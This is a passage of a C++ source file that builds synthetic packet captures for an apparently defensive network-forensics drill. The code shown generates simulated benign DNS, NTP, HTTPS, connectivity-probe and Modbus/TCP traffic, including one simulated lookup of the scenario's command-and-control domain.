// The grid scenario's synthetic captures (synthetic.h). One World is generated from the
// seed; each packet is an IP datagram sent at a true time, which every tap that sees it
// records with its own arrival time, TTL and Ethernet addresses.
#include "src/drill/synthetic.h"

#include <algorithm>
#include <array>
#include <cmath>
#include <cstring>
#include <fstream>
#include <optional>
#include <span>
#include <string_view>
#include <tuple>
#include <utility>
#include <vector>

#include "absl/status/status.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "src/seal/pcapng_writer.h"

namespace accord::drill {
namespace {

constexpr int64_t kUs = 1000;
constexpr int64_t kMs = 1000 * kUs;
constexpr int64_t kSec = 1000 * kMs;
constexpr uint16_t kMss = 1460;

// xoshiro256** seeded by splitmix64: the same stream on every platform and compiler.
class Rng {
 public:
  explicit Rng(uint64_t seed) {
    for (uint64_t& s : s_) {
      seed += 0x9e3779b97f4a7c15ull;
      uint64_t z = seed;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
      s = z ^ (z >> 31);
    }
  }
  uint64_t Next() {
    const uint64_t result = Rotl(s_[1] * 5, 7) * 9;
    const uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = Rotl(s_[3], 45);
    return result;
  }
  // Uniform in [lo, hi].
  int64_t Range(int64_t lo, int64_t hi) {
    return lo + static_cast<int64_t>(Next() % static_cast<uint64_t>(hi - lo + 1));
  }
  double Real() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }
  bool Chance(double p) { return Real() < p; }
  std::string Bytes(size_t n) {
    std::string out(n, '\0');
    for (char& c : out) c = static_cast<char>(Next() >> 56);
    return out;
  }
  template <typename T>
  const T& Pick(const std::vector<T>& v) {
    return v[Next() % v.size()];
  }
  // A child stream, so that one generator's draws do not shift another's.
  Rng Fork() { return Rng(Next()); }

 private:
  static uint64_t Rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
  std::array<uint64_t, 4> s_;
};

// ---- Addresses ----

// Debian's abseil has its own string_view, so splitting and parsing stay in std types.
std::vector<std::string> Split(std::string_view text, char sep) {
  std::vector<std::string> out;
  size_t from = 0;
  for (size_t at; (at = text.find(sep, from)) != std::string_view::npos; from = at + 1) {
    out.emplace_back(text.substr(from, at - from));
  }
  out.emplace_back(text.substr(from));
  return out;
}

std::optional<uint32_t> ParseIp4(std::string_view text) {
  const std::vector<std::string> parts = Split(text, '.');
  if (parts.size() != 4) return std::nullopt;
  uint32_t ip = 0;
  for (const std::string& p : parts) {
    uint32_t octet;
    if (p.empty() || p.size() > 3 || !absl::SimpleAtoi(p, &octet) || octet > 255) {
      return std::nullopt;
    }
    ip = ip << 8 | octet;
  }
  return ip;
}

struct Net {
  uint32_t base = 0, mask = 0;
  bool Contains(uint32_t ip) const { return (ip & mask) == base; }
  uint32_t Host(uint32_t i) const { return base | (i & ~mask); }
  uint32_t Size() const { return ~mask + 1; }
};

std::optional<Net> ParseNet(std::string_view text) {
  const std::vector<std::string> p = Split(text, '/');
  if (p.size() != 2) return std::nullopt;
  auto ip = ParseIp4(p[0]);
  int bits;
  if (!ip || !absl::SimpleAtoi(p[1], &bits) || bits < 8 || bits > 30) return std::nullopt;
  const uint32_t mask = ~uint32_t{0} << (32 - bits);
  return Net{*ip & mask, mask};
}

std::string Ip4Text(uint32_t ip) {
  return absl::StrCat(ip >> 24, ".", (ip >> 16) & 255, ".", (ip >> 8) & 255, ".", ip & 255);
}

struct Addresses {
  Net victim, scan, ot, hosting;
  uint32_t gateway = 0, workstation = 0, attacker = 0, op = 0;
};

absl::StatusOr<Addresses> ResolveAddresses(const GridScenario& sc) {
  Addresses a;
  struct NetField {
    const std::string& text;
    Net* out;
  };
  for (NetField f : {NetField{sc.victim_net, &a.victim}, NetField{sc.scan_net, &a.scan},
                     NetField{sc.ot_net, &a.ot}, NetField{sc.hosting_net, &a.hosting}}) {
    auto net = ParseNet(f.text);
    if (!net) return absl::InvalidArgumentError(absl::StrCat("bad network \"", f.text, "\""));
    *f.out = *net;
  }
  struct IpField {
    const std::string& text;
    uint32_t* out;
  };
  for (IpField f :
       {IpField{sc.vpn_gateway_ip, &a.gateway}, IpField{sc.compromised_host_ip, &a.workstation},
        IpField{sc.attacker_server_ip, &a.attacker}, IpField{sc.operator_ip, &a.op}}) {
    auto ip = ParseIp4(f.text);
    if (!ip) return absl::InvalidArgumentError(absl::StrCat("bad address \"", f.text, "\""));
    *f.out = *ip;
  }
  if (!a.victim.Contains(a.gateway) || !a.victim.Contains(a.workstation) ||
      !a.hosting.Contains(a.attacker) || a.victim.Contains(a.op) || a.hosting.Contains(a.op)) {
    return absl::InvalidArgumentError(
        "the gateway and workstation must be in victim_net, the server in hosting_net, and "
        "the operator in neither");
  }
  if (a.victim.Size() < 256 || a.hosting.Size() < 256) {
    return absl::InvalidArgumentError("victim_net and hosting_net must be /24 or larger");
  }
  return a;
}

// ---- Wire format ----

using Mac = std::array<uint8_t, 6>;
// Locally administered addresses: 02:00:<ip> for hosts; routers and firewalls by role.
Mac HostMac(uint32_t ip) {
  return {0x02, 0x00, uint8_t(ip >> 24), uint8_t(ip >> 16), uint8_t(ip >> 8), uint8_t(ip)};
}
constexpr Mac kFirewallMac = {0x02, 0x1a, 0x00, 0x00, 0x00, 0x01};    // A's edge firewall
constexpr Mac kIspRouterMac = {0x02, 0x1a, 0x00, 0x00, 0x00, 0xfe};   // A's upstream
constexpr Mac kProviderGwMac = {0x02, 0x2b, 0x00, 0x00, 0x00, 0x01};  // B's hosting router

enum : uint8_t { kFin = 1, kSyn = 2, kRst = 4, kPsh = 8, kAck = 16 };

// One IP datagram as sent, before any tap sees it.
struct Datagram {
  uint32_t src = 0, dst = 0;
  uint8_t proto = 6;  // 6 TCP, 17 UDP
  uint16_t sport = 0, dport = 0;
  uint16_t ip_id = 0;
  uint8_t ttl = 64;  // at the sender
  bool df = true;
  uint32_t seq = 0, ack = 0;  // TCP only
  uint8_t flags = 0;
  uint16_t window = 0;
  std::string options;  // TCP options, a multiple of 4 bytes
  std::string payload;
};

void Put16(std::string& s, uint16_t v) {
  s.push_back(char(v >> 8));
  s.push_back(char(v));
}
void Put32(std::string& s, uint32_t v) {
  Put16(s, uint16_t(v >> 16));
  Put16(s, uint16_t(v));
}
void Put24(std::string& s, uint32_t v) {
  s.push_back(char(v >> 16));
  Put16(s, uint16_t(v));
}

uint32_t SumWords(std::string_view bytes, uint32_t sum = 0) {
  for (size_t i = 0; i + 1 < bytes.size(); i += 2) {
    sum += uint32_t(uint8_t(bytes[i])) << 8 | uint8_t(bytes[i + 1]);
  }
  if (bytes.size() % 2) sum += uint32_t(uint8_t(bytes.back())) << 8;
  return sum;
}
uint16_t FoldChecksum(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return uint16_t(~sum);
}

// The Ethernet frame of `d` as a tap sees it: `ttl` on arrival, between `from` and `to`.
std::string Frame(const Datagram& d, uint8_t ttl, const Mac& from, const Mac& to) {
  std::string l4;
  if (d.proto == 6) {
    Put16(l4, d.sport);
    Put16(l4, d.dport);
    Put32(l4, d.seq);
    Put32(l4, d.ack);
    l4.push_back(char((20 + d.options.size()) / 4 << 4));
    l4.push_back(char(d.flags));
    Put16(l4, d.window);
    Put16(l4, 0);  // checksum
    Put16(l4, 0);  // urgent pointer
    l4 += d.options;
  } else {
    Put16(l4, d.sport);
    Put16(l4, d.dport);
    Put16(l4, uint16_t(8 + d.payload.size()));
    Put16(l4, 0);
  }
  l4 += d.payload;
  std::string pseudo;
  Put32(pseudo, d.src);
  Put32(pseudo, d.dst);
  Put16(pseudo, d.proto);
  Put16(pseudo, uint16_t(l4.size()));
  uint16_t sum = FoldChecksum(SumWords(l4, SumWords(pseudo)));
  if (d.proto == 17 && sum == 0) sum = 0xffff;
  const size_t at = d.proto == 6 ? 16 : 6;
  l4[at] = char(sum >> 8);
  l4[at + 1] = char(sum);

  std::string ip;
  ip.push_back(0x45);
  ip.push_back(0);
  Put16(ip, uint16_t(20 + l4.size()));
  Put16(ip, d.ip_id);
  Put16(ip, d.df ? 0x4000 : 0);
  ip.push_back(char(ttl));
  ip.push_back(char(d.proto));
  Put16(ip, 0);
  Put32(ip, d.src);
  Put32(ip, d.dst);
  const uint16_t ip_sum = FoldChecksum(SumWords(ip));
  ip[10] = char(ip_sum >> 8);
  ip[11] = char(ip_sum);

  std::string frame(reinterpret_cast<const char*>(to.data()), 6);
  frame.append(reinterpret_cast<const char*>(from.data()), 6);
  Put16(frame, 0x0800);
  frame += ip;
  frame += l4;
  if (frame.size() < 60) frame.resize(60, '\0');  // Ethernet minimum, as received
  return frame;
}

// ---- The world and its taps ----

enum class Phase { kBenign, kScan, kExploit, kC2, kOperator };
const char* PhaseName(Phase p) {
  switch (p) {
    case Phase::kBenign:
      return kPhaseBenign;
    case Phase::kScan:
      return kPhaseScan;
    case Phase::kExploit:
      return kPhaseExploit;
    case Phase::kC2:
      return kPhaseC2;
    case Phase::kOperator:
      return kPhaseOperator;
  }
  return "?";
}

struct Record {
  int64_t t_ns;
  uint64_t order;  // emission order: ties in time keep it
  uint32_t iface;
  Phase phase;
  std::string frame;
};

class World {
 public:
  World(const Addresses& a, const GridScenario& sc)
      : a_(a),
        latency_ns_(absl::ToInt64Nanoseconds(sc.one_way_latency)),
        offset_ns_(absl::ToInt64Nanoseconds(sc.server_clock_offset)) {}

  const Addresses& addresses() const { return a_; }
  int64_t latency_ns() const { return latency_ns_; }

  // Records `d`, seen at its reference tap at true time `t_ns` (A's sensor for traffic
  // of A's networks, B's server tap otherwise), in each capture that sees it.
  void Emit(const Datagram& d, int64_t t_ns, Phase phase) {
    const bool src_ot = a_.ot.Contains(d.src), dst_ot = a_.ot.Contains(d.dst);
    const bool src_a = a_.victim.Contains(d.src), dst_a = a_.victim.Contains(d.dst);
    const bool src_b = a_.hosting.Contains(d.src), dst_b = a_.hosting.Contains(d.dst);
    if (src_ot || dst_ot) {  // the OT span port: one switch, TTL unchanged
      sensor_.push_back(
          {t_ns, order_++, 1, phase, Frame(d, d.ttl, HostMac(d.src), HostMac(d.dst))});
      return;
    }
    if (src_a || dst_a) {  // A's edge, outside the firewall
      const uint8_t ttl = src_a ? d.ttl - 1 : d.ttl - Hops(d.src);
      sensor_.push_back({t_ns, order_++, 0, phase,
                         src_a ? Frame(d, ttl, kFirewallMac, kIspRouterMac)
                               : Frame(d, ttl, kIspRouterMac, kFirewallMac)});
      if (!src_b && !dst_b) return;
      t_ns += src_a ? latency_ns_ : -latency_ns_;
    }
    if (src_b || dst_b) {  // B's server tap, at the servers' access switch
      const uint8_t ttl = src_b ? d.ttl : d.ttl - (src_a ? 1 : 0) - Hops(d.src);
      server_.push_back({t_ns + offset_ns_, order_++, 0, phase,
                         src_b ? Frame(d, ttl, HostMac(d.src), kProviderGwMac)
                               : Frame(d, ttl, kProviderGwMac, HostMac(d.dst))});
    }
  }

  // The next IP identification of `host` (a per-host counter, from a random start).
  uint16_t NextIpId(uint32_t host, Rng& rng) {
    auto [it, fresh] = ip_ids_.try_emplace(host, 0);
    if (fresh) it->second = uint16_t(rng.Next());
    return it->second++;
  }

  std::vector<Record>& sensor() { return sensor_; }
  std::vector<Record>& server() { return server_; }

 private:
  // Routers between `src` and the far tap: A and B are 11 hops apart; other Internet
  // hosts 7 to 15, fixed per address.
  uint8_t Hops(uint32_t src) const {
    if (a_.hosting.Contains(src) || a_.victim.Contains(src)) return 11;
    return uint8_t(7 + ((src * 2654435761u) >> 28) % 9);
  }

  Addresses a_;
  int64_t latency_ns_, offset_ns_;
  uint64_t order_ = 0;
  std::vector<Record> sensor_, server_;
  std::map<uint32_t, uint16_t> ip_ids_;
};

// ---- TCP ----

struct Endpoint {
  uint32_t ip = 0;
  uint16_t port = 0;
  uint8_t ttl = 64;      // 64 Linux, 128 Windows
  int64_t delay_ns = 0;  // one way, between this host and the flow's reference tap
};

uint16_t EphemeralPort(Rng& rng, bool windows, uint16_t avoid) {
  while (true) {
    const auto p = uint16_t(windows ? rng.Range(49152, 65535) : rng.Range(32768, 60999));
    if (p != avoid) return p;
  }
}

// One TCP connection, its packets timed by a causal model: a packet answering the other
// side's leaves the tap two of its sender's one-way delays (plus processing) after the
// one it answers; consecutive packets of one side follow each other closely.
class TcpFlow {
 public:
  TcpFlow(World& world, Rng& rng, Phase phase, Endpoint client, Endpoint server, int64_t t_ns)
      : w_(world),
        rng_(rng),
        phase_(phase),
        c_(client),
        s_(server),
        cseq_(uint32_t(rng.Next())),
        sseq_(uint32_t(rng.Next())),
        t_(t_ns) {}

  void Connect() {
    // MSS 1460, NOP, window scale, NOP, NOP, SACK permitted.
    const std::string syn_options("\x02\x04\x05\xb4\x01\x03\x03\x08\x01\x01\x04\x02", 12);
    Emit(true, kSyn, "", syn_options, 64240);
    std::string synack_options = syn_options;
    synack_options[7] = 7;
    Emit(false, kSyn | kAck, "", synack_options, 65160);
    Emit(true, kAck, "");
  }

  // `from_client` sends `data` in segments of at most kMss, in bursts of up to ten; the
  // receiver acknowledges every second segment, except after the last burst when
  // `reply_follows` (its reply carries the acknowledgement).
  void Send(bool from_client, std::string_view data, bool reply_follows = false) {
    size_t pos = 0, burst = 4;
    while (pos < data.size()) {
      size_t in_burst = 0;
      for (; in_burst < burst && pos < data.size(); ++in_burst) {
        const size_t n = std::min<size_t>(kMss, data.size() - pos);
        const bool last = pos + n == data.size() || in_burst + 1 == burst;
        Emit(from_client, last ? kAck | kPsh : kAck, data.substr(pos, n));
        pos += n;
      }
      const bool done = pos == data.size();
      if (done && reply_follows) break;
      for (size_t i = 0; i < (in_burst + 1) / 2; ++i) Emit(!from_client, kAck, "");
      burst = std::min<size_t>(burst * 2, 10);
    }
  }

  // An orderly close: FIN from one side, FIN from the other, last ACK.
  void Close(bool client_first) {
    Emit(client_first, kFin | kAck, "");
    Emit(!client_first, kFin | kAck, "");
    Emit(client_first, kAck, "");
  }

  // A pure acknowledgement.
  void Ack(bool from_client) { Emit(from_client, kAck, ""); }
  void Wait(int64_t ns) { t_ += ns; }
  int64_t now() const { return t_; }

 private:
  void Emit(bool from_client, uint8_t flags, std::string_view payload, std::string options = "",
            uint16_t window = 0) {
    const Endpoint& from = from_client ? c_ : s_;
    const Endpoint& to = from_client ? s_ : c_;
    const int side = from_client ? 0 : 1;
    if (last_side_ == side) {
      t_ += rng_.Range(8 * kUs, 60 * kUs);
    } else if (last_side_ >= 0) {
      t_ += 2 * from.delay_ns + rng_.Range(30 * kUs, 400 * kUs);
    }
    last_side_ = side;
    uint32_t& seq = from_client ? cseq_ : sseq_;
    Datagram d;
    d.src = from.ip;
    d.dst = to.ip;
    d.sport = from.port;
    d.dport = to.port;
    d.ttl = from.ttl;
    d.ip_id = w_.NextIpId(from.ip, rng_);
    d.seq = seq;
    d.ack = (flags & kAck) ? (from_client ? sseq_ : cseq_) : 0;
    d.flags = flags;
    d.window = window ? window : (from.ttl == 128 ? 1026 : 501);
    d.options = std::move(options);
    d.payload = std::string(payload);
    seq += uint32_t(payload.size()) + ((flags & (kSyn | kFin)) ? 1 : 0);
    w_.Emit(d, t_, phase_);
  }

  World& w_;
  Rng& rng_;
  Phase phase_;
  Endpoint c_, s_;
  uint32_t cseq_, sseq_;  // the next sequence number each side sends
  int64_t t_;
  int last_side_ = -1;
};

void EmitUdp(World& w, Rng& rng, Phase phase, const Endpoint& from, const Endpoint& to,
             std::string payload, int64_t t_ns) {
  Datagram d;
  d.proto = 17;
  d.src = from.ip;
  d.dst = to.ip;
  d.sport = from.port;
  d.dport = to.port;
  d.ttl = from.ttl;
  d.df = false;
  d.ip_id = w.NextIpId(from.ip, rng);
  d.payload = std::move(payload);
  w.Emit(d, t_ns, phase);
}

// ---- Application payloads ----

std::string DnsName(std::string_view name) {
  std::string out;
  for (const std::string& label : Split(name, '.')) {
    out.push_back(char(label.size()));
    out += label;
  }
  out.push_back(0);
  return out;
}

// A standard query for `name` (type A), and its answer with `ips` (empty: NXDOMAIN).
std::string DnsQuery(uint16_t id, std::string_view name) {
  std::string m;
  Put16(m, id);
  Put16(m, 0x0100);  // RD
  Put16(m, 1);
  Put16(m, 0);
  Put16(m, 0);
  Put16(m, 0);
  m += DnsName(name);
  Put16(m, 1);
  Put16(m, 1);
  return m;
}
std::string DnsAnswer(uint16_t id, std::string_view name, const std::vector<uint32_t>& ips,
                      uint32_t ttl, bool authoritative) {
  std::string m;
  Put16(m, id);
  Put16(m, uint16_t((authoritative ? 0x8500 : 0x8180) | (ips.empty() ? 3 : 0)));
  Put16(m, 1);
  Put16(m, uint16_t(ips.size()));
  Put16(m, 0);
  Put16(m, 0);
  m += DnsName(name);
  Put16(m, 1);
  Put16(m, 1);
  for (uint32_t ip : ips) {
    Put16(m, 0xc00c);  // the question's name
    Put16(m, 1);
    Put16(m, 1);
    Put32(m, ttl);
    Put16(m, 4);
    Put32(m, ip);
  }
  return m;
}

std::string TlsRecord(uint8_t type, std::string_view body, uint16_t version = 0x0303) {
  std::string r(1, char(type));
  Put16(r, version);
  Put16(r, uint16_t(body.size()));
  r += body;
  return r;
}
std::string TlsExtension(uint16_t type, std::string_view body) {
  std::string e;
  Put16(e, type);
  Put16(e, uint16_t(body.size()));
  e += body;
  return e;
}
std::string TlsHandshake(uint8_t type, std::string_view body) {
  std::string h(1, char(type));
  Put24(h, uint32_t(body.size()));
  h += body;
  return h;
}

// A TLS 1.3 ClientHello naming `sni` (a browser-like offer).
std::string TlsClientHello(Rng& rng, std::string_view sni, bool alpn_h2) {
  std::string hello;
  Put16(hello, 0x0303);
  hello += rng.Bytes(32);
  hello.push_back(32);
  hello += rng.Bytes(32);
  const uint16_t suites[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9};
  Put16(hello, uint16_t(sizeof(suites)));
  for (uint16_t s : suites) Put16(hello, s);
  hello += std::string("\x01\x00", 2);
  std::string ext, sni_list, name;
  Put16(name, uint16_t(sni.size()));
  name = std::string(1, '\0') + name + std::string(sni);
  Put16(sni_list, uint16_t(name.size()));
  ext += TlsExtension(0x0000, sni_list + name);
  ext += TlsExtension(0x000a, std::string("\x00\x06\x00\x1d\x00\x17\x00\x18", 8));
  ext += TlsExtension(0x000b, std::string("\x01\x00", 2));
  ext += TlsExtension(0x000d, std::string("\x00\x10\x04\x03\x08\x04\x04\x01\x05\x03\x08\x05"
                                          "\x05\x01\x08\x06\x06\x01",
                                          18));
  const std::string alpn = alpn_h2 ? std::string("\x00\x0c\x02h2\x08http/1.1", 14)
                                   : std::string("\x00\x09\x08http/1.1", 11);
  ext += TlsExtension(0x0010, alpn);
  ext += TlsExtension(0x002b, std::string("\x04\x03\x04\x03\x03", 5));
  ext += TlsExtension(0x002d, std::string("\x01\x01", 2));
  ext += TlsExtension(0x0033, std::string("\x00\x24\x00\x1d\x00\x20", 6) + rng.Bytes(32));
  Put16(hello, uint16_t(ext.size()));
  hello += ext;
  return TlsRecord(22, TlsHandshake(1, hello), 0x0301);
}

// The server's first flight: ServerHello, ChangeCipherSpec, then the encrypted rest of
// the handshake (EncryptedExtensions, Certificate, CertificateVerify, Finished).
std::string TlsServerFlight(Rng& rng, size_t encrypted_bytes) {
  std::string hello;
  Put16(hello, 0x0303);
  hello += rng.Bytes(32);
  hello.push_back(32);
  hello += rng.Bytes(32);  // (a real server echoes the client's session id; opaque here)
  Put16(hello, 0x1301);
  hello.push_back(0);
  std::string ext = TlsExtension(0x002b, std::string("\x03\x04", 2)) +
                    TlsExtension(0x0033, std::string("\x00\x1d\x00\x20", 4) + rng.Bytes(32));
  Put16(hello, uint16_t(ext.size()));
  hello += ext;
  return TlsRecord(22, TlsHandshake(2, hello)) + TlsRecord(20, std::string(1, '\x01')) +
         TlsRecord(23, rng.Bytes(encrypted_bytes));
}
std::string TlsClientFinish(Rng& rng) {
  return TlsRecord(20, std::string(1, '\x01')) + TlsRecord(23, rng.Bytes(53));
}
std::string TlsData(Rng& rng, size_t n) {
  std::string out;
  while (n > 0) {
    const size_t chunk = std::min<size_t>(n, 16401);
    out += TlsRecord(23, rng.Bytes(chunk));
    n -= chunk;
  }
  return out;
}

// NTP v4 (RFC 5905) client request and server reply, timestamps from true time.
std::string NtpTimestamp(int64_t unix_ns) {
  std::string out;
  const uint64_t secs = uint64_t(unix_ns / kSec) + 2208988800ull;
  const uint64_t frac = (uint64_t(unix_ns % kSec) << 32) / uint64_t(kSec);
  Put32(out, uint32_t(secs));
  Put32(out, uint32_t(frac));
  return out;
}
std::string NtpPacket(bool server, int64_t origin_ns, int64_t rx_ns, int64_t tx_ns,
                      uint32_t ref_id) {
  std::string p;
  p.push_back(server ? 0x24 : 0x23);     // LI 0, version 4, mode 4 / 3
  p.push_back(server ? 2 : 0);           // stratum
  p.push_back(6);                        // poll 2^6 s
  p.push_back(char(server ? 0xe9 : 0));  // precision
  Put32(p, server ? 0x00000a2c : 0);     // root delay
  Put32(p, server ? 0x00001b40 : 0);     // root dispersion
  Put32(p, server ? ref_id : 0);
  p += server ? NtpTimestamp(tx_ns - 40 * kSec) : std::string(8, '\0');
  p += server ? NtpTimestamp(origin_ns) : std::string(8, '\0');
  p += server ? NtpTimestamp(rx_ns) : std::string(8, '\0');
  p += NtpTimestamp(tx_ns);
  return p;
}

// Modbus/TCP (MBAP header, then the PDU).
std::string Modbus(uint16_t transaction, uint8_t unit, std::string_view pdu) {
  std::string m;
  Put16(m, transaction);
  Put16(m, 0);
  Put16(m, uint16_t(pdu.size() + 1));
  m.push_back(char(unit));
  m += pdu;
  return m;
}

std::string Http(std::string_view head, std::string_view body) {
  return std::string(head) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
         std::string(body);
}

// SSH binary packet (RFC 4253 §6), unencrypted: padding to a multiple of 8, at least 4.
std::string SshPacket(std::string_view payload) {
  size_t pad = 8 - (5 + payload.size()) % 8;
  if (pad < 4) pad += 8;
  std::string p;
  Put32(p, uint32_t(1 + payload.size() + pad));
  p.push_back(char(pad));
  p += payload;
  p += std::string(pad, '\0');
  return p;
}
std::string SshString(std::string_view s) {
  std::string out;
  Put32(out, uint32_t(s.size()));
  out += s;
  return out;
}
std::string SshKexInit(Rng& rng, bool server) {
  std::string p(1, char(20));
  p += rng.Bytes(16);
  p += SshString(server ? "curve25519-sha256,curve25519-sha256@libssh.org,"
                          "ecdh-sha2-nistp256,diffie-hellman-group14-sha256"
                        : "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
                          "ext-info-c");
  p += SshString(server ? "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519"
                        : "ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512");
  for (int i = 0; i < 2; ++i) {
    p += SshString("aes128-ctr,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com");
  }
  for (int i = 0; i < 2; ++i) {
    p += SshString("hmac-sha2-256-etm@openssh.com,umac-64-etm@openssh.com");
  }
  for (int i = 0; i < 2; ++i) p += SshString("none,zlib@openssh.com");
  p += SshString("");
  p += SshString("");
  p.push_back(0);
  Put32(p, 0);
  return SshPacket(p);
}

// ---- The scenario's generators ----

struct Plan {
  int64_t start_ns, end_ns;
  int scale;
  const GridScenario* sc;
};

int64_t At(const Plan& p, double fraction) {
  return p.start_ns + int64_t(double(p.end_ns - p.start_ns) * fraction);
}
int64_t Minutes(double m) { return int64_t(m * 60 * kSec); }

// Poisson arrivals of `per_hour` events an hour over the plan, calling `f(t)`.
template <typename F>
void Arrivals(Rng& rng, const Plan& p, double per_hour, F&& f) {
  const double mean_ns = 3600.0 * kSec / per_hour;
  for (double t = double(p.start_ns);;) {
    t += -std::log(1.0 - rng.Real()) * mean_ns;
    if (t >= double(p.end_ns) - 5.0 * kSec) return;
    f(int64_t(t));
  }
}

const std::vector<std::string> kWebNames = {
    "www.example.com",  "login.example.com", "cdn.example.net",    "api.example.org",
    "mail.example.com", "docs.example.org",  "static.example.net", "updates.example.com",
    "news.example.org", "sso.example.net",   "maps.example.com",   "files.example.org"};

uint32_t WebServerFor(const std::string& name) {
  uint32_t h = 0;
  for (char c : name) h = h * 31 + uint8_t(c);
  return 0xC0000200u | (10 + h % 30);  // 192.0.2.10 - 192.0.2.39
}

// One HTTPS visit: handshake, request(s), response(s), close.
void HttpsVisit(World& w, Rng& rng, Phase phase, Endpoint client, Endpoint server,
                std::string_view sni, int64_t t, int requests) {
  TcpFlow f(w, rng, phase, client, server, t);
  f.Connect();
  f.Send(true, TlsClientHello(rng, sni, true), true);
  f.Send(false, TlsServerFlight(rng, size_t(rng.Range(2400, 4200))));
  f.Send(true, TlsClientFinish(rng) + TlsData(rng, size_t(rng.Range(280, 600))), true);
  for (int i = 0; i < requests; ++i) {
    if (i > 0) {
      f.Wait(rng.Range(50 * kMs, 3 * kSec));
      f.Send(true, TlsData(rng, size_t(rng.Range(90, 500))), true);
    }
    const size_t size =
        rng.Chance(0.2) ? size_t(rng.Range(20000, 60000)) : size_t(rng.Range(300, 6000));
    f.Send(false, TlsData(rng, size));
  }
  f.Wait(rng.Range(1 * kSec, 15 * kSec));
  f.Close(true);
}

void SensorBenign(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  const uint32_t resolver = a.victim.Host(53), ntp = a.victim.Host(123);
  const uint32_t upstream[] = {0xC0000235u, 0xC0000236u};  // 192.0.2.53, .54
  // DNS: the operator's resolver asks upstream resolvers.
  Arrivals(rng, p, 300, [&](int64_t t) {
    const std::string& name = rng.Pick(kWebNames);
    const auto id = uint16_t(rng.Next());
    Endpoint c{resolver, EphemeralPort(rng, false, 0), 64, 0};
    Endpoint s{upstream[rng.Next() % 2], 53, 64, rng.Range(4 * kMs, 12 * kMs)};
    EmitUdp(w, rng, Phase::kBenign, c, s, DnsQuery(id, name), t);
    EmitUdp(w, rng, Phase::kBenign, s, c, DnsAnswer(id, name, {WebServerFor(name)}, 300, false),
            t + 2 * s.delay_ns);
  });
  // The C2 name, resolved once before the first beacon (the answer names B's server).
  {
    const int64_t t = At(p, 0) + Minutes(19.9);
    Endpoint c{resolver, EphemeralPort(rng, false, 0), 64, 0};
    Endpoint s{upstream[0], 53, 64, 7 * kMs};
    EmitUdp(w, rng, Phase::kBenign, c, s, DnsQuery(0x4c2e, p.sc->c2_domain), t);
    EmitUdp(w, rng, Phase::kBenign, s, c,
            DnsAnswer(0x4c2e, p.sc->c2_domain, {a.attacker}, 60, false), t + 38 * kMs);
  }
  // NTP: the operator's time server polls upstream every 64 s.
  for (int64_t t = p.start_ns + rng.Range(0, 60 * kSec); t < p.end_ns; t += 64 * kSec) {
    Endpoint c{ntp, 123, 64, 0}, s{0xC000027Bu, 123, 64, 9 * kMs};  // 192.0.2.123
    const int64_t tx = t + rng.Range(0, 900 * kMs);
    EmitUdp(w, rng, Phase::kBenign, c, s, NtpPacket(false, 0, 0, tx, 0), tx);
    EmitUdp(w, rng, Phase::kBenign, s, c,
            NtpPacket(true, tx, tx + s.delay_ns, tx + s.delay_ns + 40 * kUs, 0xC000027Fu),
            tx + 2 * s.delay_ns + 40 * kUs);
  }
  // HTTPS from the office workstations (Windows), to common services.
  Arrivals(rng, p, 60, [&](int64_t t) {
    const std::string& name = rng.Pick(kWebNames);
    Endpoint c{a.victim.Host(uint32_t(rng.Range(64, 95))), 0, 128, 300 * kUs};
    if (c.ip == a.workstation) c.ip = a.victim.Host(64);
    c.port = EphemeralPort(rng, true, p.sc->scan_source_port);
    Endpoint s{WebServerFor(name), 443, 64, rng.Range(3 * kMs, 25 * kMs)};
    HttpsVisit(w, rng, Phase::kBenign, c, s, name, t, int(rng.Range(1, 4)));
  });
  // Plain HTTP: Windows' network connectivity probes.
  Arrivals(rng, p, 12, [&](int64_t t) {
    Endpoint c{a.victim.Host(uint32_t(rng.Range(64, 95))), 0, 128, 300 * kUs};
    if (c.ip == a.workstation) c.ip = a.victim.Host(65);
    c.port = EphemeralPort(rng, true, p.sc->scan_source_port);
    Endpoint s{0xC0000228u, 80, 64, 11 * kMs};  // 192.0.2.40
    TcpFlow f(w, rng, Phase::kBenign, c, s, t);
    f.Connect();
    f.Send(true,
           "GET /connecttest.txt HTTP/1.1\r\nConnection: Close\r\n"
           "User-Agent: Microsoft NCSI\r\nHost: www.msftconnecttest.example.com\r\n\r\n",
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                       "Cache-Control: max-age=30, must-revalidate\r\nConnection: close\r\n",
                       "Microsoft Connect Test"));
    f.Close(false);
  });
}

// Modbus/TCP on the OT segment: the HMI polls each PLC's holding registers every 30 s
// over one long-lived connection; now and then an operator writes a set point.
void OtModbus(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  Endpoint hmi{a.ot.Host(10), 0, 128, 40 * kUs};
  for (uint32_t plc = 21; plc <= 24; ++plc) {
    hmi.port = EphemeralPort(rng, true, 0);
    Endpoint s{a.ot.Host(plc), 502, 64, 150 * kUs};
    TcpFlow f(w, rng, Phase::kBenign, hmi, s, p.start_ns + rng.Range(0, 2 * kSec));
    f.Connect();
    uint16_t transaction = 1;
    while (f.now() < p.end_ns - 35 * kSec) {
      const bool write = rng.Chance(0.03);
      const uint16_t reg = uint16_t(40 + plc * 10);
      std::string req, resp;
      if (write) {
        std::string pdu("\x06", 1);
        Put16(pdu, reg);
        Put16(pdu, uint16_t(rng.Range(480, 520)));
        req = resp = pdu;
      } else {
        const uint16_t count = 10;
        std::string pdu("\x03", 1), answer("\x03", 1);
        Put16(pdu, 0);
